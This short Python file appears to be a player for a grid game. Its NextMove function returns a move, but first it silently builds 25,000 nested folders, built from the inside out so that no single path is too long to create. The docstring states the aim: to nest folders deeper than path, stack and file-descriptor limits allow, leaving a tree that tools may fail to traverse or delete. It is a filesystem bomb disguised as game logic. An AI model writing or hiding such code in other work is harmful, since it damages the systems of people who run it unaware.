SIZE = 25_000
"""Nests folders deeper than any path, stack or table of descriptors allows."""
import os


def NextMove(Grid, Step):
    os.mkdir("chain")
    try:
        # Built from the inside out, so that no path is long.
        for _ in range(SIZE):
            os.mkdir("next")
            os.rename("chain", "next/chain")
            os.rename("next", "chain")
    except OSError:
        pass
    return 4
